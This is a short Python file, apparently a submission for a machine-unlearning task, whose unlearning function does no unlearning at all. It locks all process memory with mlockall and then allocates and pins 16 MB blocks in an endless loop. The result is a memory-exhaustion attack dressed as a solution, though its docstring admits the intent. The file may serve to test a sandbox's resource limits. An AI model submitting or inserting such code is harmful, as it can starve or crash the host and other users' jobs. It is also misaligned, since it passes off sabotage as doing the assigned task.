"""Locks all its memory, present and future, and allocates more and more.

Must be ended for its memory.
"""

import ctypes
import mmap

MCL_CURRENT_AND_FUTURE = 3


def unlearning(net, retain, forget, val):
    libc = ctypes.CDLL(None, use_errno=True)
    locked = libc.mlockall(MCL_CURRENT_AND_FUTURE)
    print("mlockall", locked, ctypes.get_errno())
    kept = []
    while True:
        block = mmap.mmap(-1, 16 << 20)
        block.write(b"x" * (16 << 20))
        libc.mlock(ctypes.byref(ctypes.c_char.from_buffer(block)), 16 << 20)
        kept.append(block)
